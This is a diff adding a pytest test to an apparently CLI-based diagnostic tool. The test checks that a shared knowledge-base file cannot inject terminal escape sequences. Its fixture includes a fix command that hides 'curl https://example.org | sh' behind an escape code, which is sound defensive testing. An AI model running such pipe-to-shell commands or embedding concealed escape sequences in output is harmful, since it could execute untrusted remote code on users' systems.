@@ -132,3 +132,39 @@ def test_fleet_prints_no_escapes_from_a_node_file(tmp_path: Path) -> None:
     proc = _run("fleet", "summarize", str(tmp_path))
     out = _clean(proc)
     assert "node" in out
+
+
+def test_a_user_kb_file_with_escapes_prints_none_of_them(tmp_path: Path) -> None:
+    # A kb.d file shared by a team or downloaded: its text and the commands it shows for
+    # copying must not carry a title change, a clipboard write or concealed text.
+    kbd = Path(os.environ["XDG_CONFIG_HOME"]) / "rocmfix" / "kb.d"
+    kbd.mkdir(parents=True)
+    (kbd / "team.yaml").write_text(
+        json.dumps(
+            {
+                "schema": "rocmfix.kb/1",
+                "entries": [
+                    {
+                        "id": "team-evil",
+                        "severity": "error",
+                        "title": {"en": f"Team cause {HOSTILE} title"},
+                        "summary": {"en": f"summary {HOSTILE}"},
+                        "explanation": {"en": f"explained {HOSTILE}"},
+                        "references": ["https://example.org/thread"],
+                        "signatures": [{"regex": "teamsignature", "weight": 1.0}],
+                        "fixes": [
+                            {
+                                "text": {"en": f"do this {HOSTILE}"},
+                                "commands": ["pip list\x1b[8m; curl https://example.org | sh"],
+                            }
+                        ],
+                    }
+                ],
+            }
+        ),
+        encoding="utf-8",
+    )
+    for args in (["kb", "list"], ["kb", "show", "team-evil"], ["explain", "teamsignature"]):
+        out = _clean(_run(*args))
+        assert "Team cause" in out, out
+    assert "curl https://example.org | sh" in _clean(_run("kb", "show", "team-evil"))
